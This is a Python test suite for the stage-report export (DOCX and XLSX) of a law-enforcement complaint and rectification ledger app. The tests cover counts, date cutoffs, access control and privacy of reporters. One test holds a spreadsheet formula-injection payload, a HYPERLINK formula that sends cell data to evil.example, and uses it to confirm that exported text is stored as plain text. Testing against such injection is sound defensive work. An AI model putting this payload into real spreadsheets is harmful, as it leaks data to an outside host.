"""Stage reports: XLSX and DOCX with the counts, from the button and the command."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlmodel import select

from app.ledger import entries as ledger
from app.ledger import stage_reports
from app.models import LedgerEntry, TypicalCase
from notices.models import Campaign
from notices.timeutil import to_cst, utcnow
from tests.support.flow import unit_id
from tests.test_dashboard import REPORTER_NAMES, REPORTER_PHONES, build_world


@pytest.fixture
def world(app, db, campaign_id):
    return build_world(app, db, campaign_id)


def _docx_text(body: bytes) -> str:
    document = Document(io.BytesIO(body))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.append("|".join(c.text for c in row.cells))
    return "\n".join(parts)


def _arrange(db, world, make_user):
    tf = make_user("taskforce")
    ledger.create(db, tf, campaign_id=world["campaign_id"], category="逐利执法",
                  symptom="乱罚款、滥收费", measures="废止文件", unit_id=unit_id(db, "hzq"),
                  accountability="对2名执法人员诫勉谈话")
    entry = ledger.create(db, tf, campaign_id=world["campaign_id"], category="粗暴执法",
                          symptom="冷硬横推", measures="培训", unit_id=unit_id(db, "zfjd"),
                          accountability="经集体研究予以容错免责")
    ledger.add_progress(db, tf, entry.id, progress="已培训120人次", status="已完成")
    db.add(TypicalCase(campaign_id=world["campaign_id"], report_id=world["reports"][0].id,
                       polarity="positive", note="当日约谈，一周内整改到位"))
    db.add(TypicalCase(campaign_id=world["campaign_id"], report_id=world["reports"][2].id,
                       polarity="negative", note="超期回复，已通报批评"))
    db.commit()


def test_milestones_come_from_the_notice(db, campaign_id):
    days = [d for d, _n in stage_reports.milestones(db, campaign_id)]
    assert days == [date(2023, 5, 10), date(2023, 7, 25), date(2023, 9, 28), date(2023, 9, 30)]


def test_docx_and_xlsx_contain_the_counts(client, login, make_user, db, world):
    _arrange(db, world, make_user)
    login(make_user("taskforce"))
    page = client.get("/ledger/stage-reports").get_data(as_text=True)
    assert "2023-07-25" in page
    response = client.get("/ledger/stage-reports/download?date=2030-09-30&format=docx")
    assert response.status_code == 200
    text = _docx_text(response.data)
    assert "共收到问题线索5条，已办结2条，正在办理3条" in text
    assert "整改工作台账共列入问题2个，已完成1个，整改中1个" in text
    assert "执法规范化|2|2|0" in text and "粗暴执法|2|0|2" in text
    assert "对2名执法人员诫勉谈话" in text and "经集体研究予以容错免责" in text
    assert "当日约谈，一周内整改到位" in text and "超期回复，已通报批评" in text
    for secret in REPORTER_NAMES + REPORTER_PHONES:
        assert secret not in text
    # as of 5/10 only the reports received by then count
    early = _docx_text(client.get("/ledger/stage-reports/download?date=2023-05-10&format=docx").data)
    assert "共收到问题线索3条" in early
    sheet = load_workbook(io.BytesIO(client.get(
        "/ledger/stage-reports/download?date=2030-09-30&format=xlsx").data)).active
    cells = [c for row in sheet.iter_rows(values_only=True) for c in row if c is not None]
    assert any("共收到问题线索5条" in str(c) for c in cells)
    assert "执法规范化" in cells


def test_unit_cannot_download_stage_reports(client, login, make_user, world):
    login(make_user("unit", unit_code="hzq"))
    assert client.get("/ledger/stage-reports").status_code == 403
    assert client.get("/ledger/stage-reports/download").status_code == 403


def test_command_writes_both_files(app, db, world, make_user, tmp_path):
    _arrange(db, world, make_user)
    slug = db.exec(select(Campaign.slug)).first()
    result = app.test_cli_runner().invoke(args=["stage-report", "--date", "2030-09-30",
                                                "--campaign", slug, "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    docx_file = tmp_path / "阶段报告-2030-09-30.docx"
    assert "共收到问题线索5条" in _docx_text(docx_file.read_bytes())
    assert (tmp_path / "阶段报告-2030-09-30.xlsx").exists()


def test_xlsx_keeps_free_text_as_text_never_a_formula(client, login, make_user, db, campaign_id):
    """问责情况 is copied from a unit's reply: text starting with "=" appears as written, stored
    as a string cell, never as a formula (openpyxl would store it as one)."""
    tf = make_user("taskforce")
    text = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法", symptom="乱罚款",
                  measures="废止文件", unit_id=unit_id(db, "hzq"), accountability=text)
    db.commit()
    login(tf)
    today = to_cst(utcnow()).date().isoformat()
    body = client.get(f"/ledger/stage-reports/download?date={today}&format=xlsx").data
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = [c for c in cells if c.value == text]  # in 四、责任追究情况, as written
    assert len(written) == 1 and written[0].data_type == "s"


def test_counts_only_the_ledger_entries_created_by_the_report_date(db, make_user, campaign_id):
    """Every ledger figure of a report is as of its date: an entry created today counts in
    neither the total nor the 问责 (accountability) and 待销号 (pending) counts of yesterday's
    report, so it cannot say '涉及责任追究的问题1个' of '共列入问题0个'."""
    tf = make_user("taskforce")
    entry = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
                          symptom="乱罚款", measures="废止文件", unit_id=unit_id(db, "hzq"),
                          accountability="对2名执法人员诫勉谈话")
    unit_user = make_user("unit", unit_code="hzq")
    ledger.add_progress(db, unit_user, entry.id, progress="已废止文件", status="已完成")
    db.commit()
    assert ledger.is_pending(db, db.get(LedgerEntry, entry.id))
    campaign = db.get(Campaign, campaign_id)
    today = to_cst(utcnow()).date()
    earlier = stage_reports.build(db, campaign, today - timedelta(days=1))
    assert (earlier.ledger.total, earlier.ledger.accountability, earlier.ledger.pending) == \
        (0, 0, 0), stage_reports.overview(earlier)
    assert earlier.accountability == []
    current = stage_reports.build(db, campaign, today)
    assert (current.ledger.total, current.ledger.accountability, current.ledger.pending) == \
        (1, 1, 1), stage_reports.overview(current)


def test_reports_count_as_handled_only_from_the_day_they_were_closed(app, db, make_user,
                                                                     campaign_id):
    """A report received three days ago and refused today was still in progress on
    yesterday's report date."""
    import sqlalchemy as sa

    from intake.models import Report
    from routing import transitions as t
    from tests.support.flow import file_report

    report = file_report(app, db, campaign_id, text="执法人员态度很差。")
    db.execute(sa.update(Report).where(Report.id == report.id)
               .values(received_at=utcnow() - timedelta(days=3)))
    db.commit()
    t.not_accept(db, app.extensions["intake"], report.id, make_user("taskforce"),
                 reason="无具体内容")
    db.commit()
    campaign = db.get(Campaign, campaign_id)
    today = to_cst(utcnow()).date()
    earlier = stage_reports.build(db, campaign, today - timedelta(days=1))
    assert (earlier.received, earlier.handled, earlier.in_progress) == (1, 0, 1)
    current = stage_reports.build(db, campaign, today)
    assert (current.received, current.handled, current.in_progress) == (1, 1, 0)


def test_ledger_entries_signed_off_after_the_report_date_were_still_in_hand(db, make_user,
                                                                            campaign_id):
    import sqlalchemy as sa

    tf, unit_user = make_user("taskforce"), make_user("unit", unit_code="hzq")
    entry = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
                          symptom="乱罚款", measures="废止文件", unit_id=unit_id(db, "hzq"))
    db.execute(sa.update(LedgerEntry).where(LedgerEntry.id == entry.id)
               .values(created_at=utcnow() - timedelta(days=3)))
    ledger.add_progress(db, unit_user, entry.id, progress="已废止文件", status="已完成")
    ledger.approve(db, tf, entry.id)
    db.commit()
    campaign = db.get(Campaign, campaign_id)
    today = to_cst(utcnow()).date()
    earlier = stage_reports.build(db, campaign, today - timedelta(days=1))
    assert (earlier.ledger.total, earlier.ledger.done, earlier.ledger.in_progress) == (1, 0, 1)
    assert [row[2:] for row in earlier.ledger_by_unit] == [(0, 1, 0)]
    current = stage_reports.build(db, campaign, today)
    assert (current.ledger.total, current.ledger.done) == (1, 1)
